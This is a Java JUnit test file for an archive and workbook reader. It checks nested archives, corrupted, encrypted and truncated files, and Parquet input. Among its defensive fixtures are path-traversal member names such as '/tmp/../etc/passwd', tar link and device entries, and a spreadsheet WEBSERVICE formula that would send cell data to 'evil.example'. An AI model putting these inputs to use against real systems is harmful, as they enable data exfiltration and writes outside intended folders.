package dev.firebreak.assessment;

import static org.assertj.core.api.Assertions.assertThat;

import dev.firebreak.ledger.DuckDb;
import java.io.ByteArrayOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// Compressed files, archives in archives, workbooks, Parquet.
class ArchiveReadingTest {
  @TempDir Path folder;
  private int runs;

  private Assessment assess(String name, byte[] content) throws Exception {
    runs++;
    return new AssessmentFixture(Files.createDirectory(run())).file(name, content).assess();
  }

  private Path run() {
    return folder.resolve("run-" + runs);
  }

  private static byte[] rows(int from, int to) {
    StringBuilder rows = new StringBuilder();
    for (int i = from; i < to; i++) {
      rows.append("{\"user_id\":\"u-%d\",\"email\":\"p%d@example.com\"}\n".formatted(i, i));
    }
    return Archives.utf8(rows.toString());
  }

  private static Map<String, byte[]> files(Object... namesAndContents) {
    Map<String, byte[]> files = new LinkedHashMap<>();
    for (int i = 0; i < namesAndContents.length; i += 2) {
      files.put((String) namesAndContents[i], (byte[]) namesAndContents[i + 1]);
    }
    return files;
  }

  private static List<String> parts(Assessment assessment) {
    return assessment.originals().getFirst().parts().stream()
        .map(part -> part.name() + " | " + part.readAs() + " | " + part.rowsRead())
        .toList();
  }

  @Test
  void everyLayerIsOpenedAndEachFileKeepsItsPath() throws Exception {
    byte[] inner =
        Archives.tar(
            files("x/one.json", rows(20, 30), "two.csv", Archives.utf8("user_id\nu-a\nu-b\n")));
    byte[] zip =
        Archives.zip(
            files(
                "a/1.json.gz", Archives.gzip(rows(0, 10)),
                "a/2.json.zst", Archives.zstd(rows(10, 20)),
                "b.tar.gz", Archives.gzip(inner),
                "c.zip", Archives.storedZip(files("deep.json", rows(30, 31)))));
    Assessment assessment = assess("export.zip", zip);

    assertThat(assessment.rejected()).isEmpty();
    assertThat(assessment.unresolved()).isEqualTo(33);
    assertThat(parts(assessment))
        .containsExactly(
            "export.zip | zip | 0",
            "export.zip!/a/1.json.gz | JSON lines, UTF-8 | 10",
            "export.zip!/a/2.json.zst | JSON lines, UTF-8 | 10",
            "export.zip!/b.tar.gz | tar | 0",
            "export.zip!/b.tar.gz!/x/one.json | JSON lines, UTF-8 | 10",
            "export.zip!/b.tar.gz!/two.csv | separated text, UTF-8 | 2",
            "export.zip!/c.zip | zip | 0",
            "export.zip!/c.zip!/deep.json | JSON lines, UTF-8 | 1");
  }

  @Test
  void membersOfAGzipAreAllRead() throws Exception {
    ByteArrayOutputStream file = new ByteArrayOutputStream();
    file.write(Archives.gzip(rows(0, 5)));
    file.write(Archives.gzip(rows(5, 9)));
    file.write(new byte[100]);

    assertThat(assess("m.gz", file.toByteArray()).unresolved()).isEqualTo(9);
    file.write(Archives.utf8("more"));
    Assessment assessment = assess("m.gz", file.toByteArray());
    assertThat(assessment.unresolved()).isEqualTo(9);
    assertThat(assessment.rejected().getFirst().reason()).contains("no gzip");
  }

  @Test
  void cutOffArchivesGiveWhatTheyHaveAndSaySo() throws Exception {
    byte[] zip =
        Archives.zip(files("1.json", rows(0, 10), "2.json", rows(10, 3000), "3.json", rows(0, 1)));
    byte[] tar = Archives.tar(files("1.json", rows(0, 10), "2.json", rows(10, 3000)));
    byte[] zstd = Archives.zstd(rows(0, 50_000));
    for (byte[] whole : List.of(zip, tar, zstd)) {
      Assessment assessment = assess("cut", Arrays.copyOf(whole, whole.length / 2));

      assertThat(assessment.unresolved()).isGreaterThan(10);
      assertThat(assessment.rejected()).isNotEmpty();
      assertThat(assessment.rejected().toString()).contains("ends here, before its end");
    }
  }

  @Test
  void zipWithoutItsListIsReadAndTold() throws Exception {
    byte[] whole = Archives.zip(files("1.json", rows(0, 10), "2.json", rows(10, 20)));
    int list =
        new String(whole, java.nio.charset.StandardCharsets.ISO_8859_1).indexOf("PK\u0001\u0002");
    Assessment assessment = assess("cut.zip", Arrays.copyOf(whole, list));

    assertThat(assessment.unresolved()).isEqualTo(20);
    assertThat(assessment.rowsRejected()).isEqualTo(1);
    byte[] listed = whole.clone();
    listed[list + 46 + 6 + 2] = 'X';
    listed[list + 46 + 6 + 3] = 'X';
    assertThat(assess("l.zip", listed).rejected().toString()).contains("its list names 1 files");
  }

  @Test
  void damagedFileOfAZipCostsItself() throws Exception {
    byte[] stored = Archives.storedZip(files("1.json", rows(0, 10), "2.json", rows(10, 20)));
    int at = new String(stored, java.nio.charset.StandardCharsets.ISO_8859_1).indexOf("u-3");
    stored[at - 1] = '{';
    Assessment assessment = assess("d.zip", stored);

    assertThat(assessment.unresolved()).isEqualTo(19);
    assertThat(assessment.rejected().getFirst())
        .isEqualTo(new Assessment.RejectedRow("d.zip!/1.json", 4, "broken JSON"));
    assertThat(assessment.rejected().getLast().reason()).contains("checksum differs");
  }

  @Test
  void encryptedFileOfAZipIsNamedAndTheOthersAreRead() throws Exception {
    byte[] stored = Archives.storedZip(files("1.json", rows(0, 10), "2.json", rows(10, 20)));
    stored[6] |= 1;
    Assessment assessment = assess("d.zip", stored);

    assertThat(assessment.unresolved()).isEqualTo(10);
    assertThat(assessment.rejected().getFirst().file()).isEqualTo("d.zip!/1.json");
    assertThat(assessment.rejected().getFirst().reason()).contains("encrypted");
  }

  @Test
  void namesThatPointElsewhereAreOnlyNames() throws Exception {
    Path outside = folder.resolve("outside.json");
    Map<String, byte[]> files =
        files(
            "../outside.json",
            rows(0, 1),
            "/tmp/../etc/passwd",
            rows(1, 2),
            "C:\\windows\\x.json",
            rows(2, 3),
            "a\u202eb\n\u0007.json",
            rows(3, 4),
            "n".repeat(400) + ".json",
            rows(4, 5));
    Assessment zip = assess("t.zip", Archives.zip(files));
    Assessment tar = assess("t.tar", Archives.tar(files));

    assertThat(zip.unresolved()).isEqualTo(5);
    assertThat(tar.unresolved()).isEqualTo(5);
    assertThat(parts(zip)).contains("t.zip!/../outside.json | JSON lines, UTF-8 | 1");
    assertThat(parts(zip).toString()).doesNotContain("\u202e", "\n", "\u0007");
    assertThat(outside).doesNotExist();
  }

  @Test
  void linksAndDevicesOfATarAreNotFollowed() throws Exception {
    ByteArrayOutputStream tar = new ByteArrayOutputStream();
    tar.write(Archives.header("link", 0, '2'));
    tar.write(Archives.header("device", 0, '3'));
    tar.write(Archives.tar(files("1.json", rows(0, 2))));
    Assessment assessment = assess("l.tar", tar.toByteArray());

    assertThat(assessment.unresolved()).isEqualTo(2);
    assertThat(assessment.rejected().stream().map(Assessment.RejectedRow::file))
        .containsExactly("l.tar!/link", "l.tar!/device");
  }

  @Test
  void workbooksAreReadAndFormulasAreNotEvaluated() throws Exception {
    String texts =
        "<si><t>user_id</t></si><si><t>mail</t></si>"
            + "<si><r><t>a@exam</t></r><r><t>ple.com</t></r></si>";
    String sheet =
        "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Export of people</t></is></c></row><row"
            + " r=\"3\"><c r=\"A3\" t=\"s\"><v>0</v></c><c r=\"B3\" t=\"s\"><v>1</v></c><c r=\"C3\""
            + " t=\"str\"><v>seen</v></c><c r=\"D3\" t=\"str\"><v>n</v></c></row><row r=\"4\"><c"
            + " r=\"A4\"><v>1.23456789012E11</v></c><c r=\"B4\" t=\"s\"><v>2</v></c><c r=\"C4\""
            + " s=\"1\"><v>45970.5</v></c><c r=\"D4\" t=\"b\"><v>1</v></c></row><row r=\"5\"><c"
            + " r=\"A5\""
            + " t=\"str\"><f>WEBSERVICE(\"https://evil.example/\"&amp;B5)</f><v>u-2</v></c><c"
            + " r=\"B5\"><f>1+1</f><v>2</v></c></row>";
    Assessment assessment = assess("people.xlsx", Archives.workbook(sheet, texts));

    assertThat(parts(assessment))
        .containsExactly("people.xlsx | XLSX | 0", "people.xlsx!/People | sheet | 3");
    assertThat(assessment.rejected())
        .containsExactly(
            new Assessment.RejectedRow("people.xlsx!/People", 1, "it stands above the header"));
    assertThat(AssessmentFixture.people(assessment, folder).names())
        .containsExactlyInAnyOrder("123456789012", "u-2");
    assertThat(assessment.fields().stream().map(Assessment.Field::path))
        .containsExactly("mail", "n", "seen", "user_id");
    byte[] inZip = Archives.zip(files("x/p.xlsx", Archives.workbook(sheet, texts)));
    assertThat(assess("w.zip", inZip).unresolved()).isEqualTo(2);
    assertThat(run().resolve("work/part-0")).doesNotExist();
  }

  @Test
  void parquetIsReadAlsoOutOfAnArchive() throws Exception {
    Path parquet = folder.resolve("p.parquet");
    try (DuckDb database = DuckDb.open(folder, DuckDb.MEMORY_BYTES_MIN, 1, List.of())) {
      database.execute(
          "COPY (SELECT 12345678901234567890123::DECIMAL(38,0) + i AS user_id, 'nan'::DOUBLE AS d,"
              + " '{\"$set\": {\"email\": \"p' || i || '@example.com\"}}' AS properties"
              + " FROM range(3) t(i)) TO "
              + DuckDb.literal(parquet));
    }
    byte[] bytes = Files.readAllBytes(parquet);
    Assessment assessment =
        new AssessmentFixture(folder)
            .given(parquet)
            .file("z.zip", Archives.zip(files("q.parquet", bytes)))
            .assess();

    assertThat(assessment.rejected()).isEmpty();
    assertThat(assessment.rowsRead()).isEqualTo(6);
    assertThat(AssessmentFixture.people(assessment, folder).names())
        .contains("12345678901234567890123");
    assertThat(assessment.fields().stream().map(Assessment.Field::path))
        .contains("properties.$set.email");
    Assessment cut = assess("cut.parquet", Arrays.copyOf(bytes, bytes.length - 1));
    assertThat(cut.rejected().getFirst().reason()).contains("cut off");
    byte[] hostile = bytes.clone();
    Arrays.fill(hostile, 4, bytes.length - 8, (byte) 0x19);
    assertThat(assess("h.parquet", hostile).rowsRejected()).isEqualTo(1);
  }

  @Test
  void formatsThatAreNotReadAreNamed() throws Exception {
    Map<String, byte[]> files =
        files(
            "old.xls", Archives.utf8("x"),
            "p.pdf", Archives.utf8("%PDF-1.7\n\u0001"));
    files.put("old.xls", new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, 0, 0});
    for (Map.Entry<String, byte[]> file : files.entrySet()) {
      Assessment assessment = assess(file.getKey(), file.getValue());
      assertThat(assessment.rowsRead()).isEqualTo(1);
      assertThat(assessment.rejected().getFirst().reason()).containsAnyOf("XLSX", "PDF");
    }
    assertThat(assess("t.csv", Archives.utf8("PARENT_ID,user_id\n1,u\n")).unresolved())
        .isEqualTo(1);
  }
}
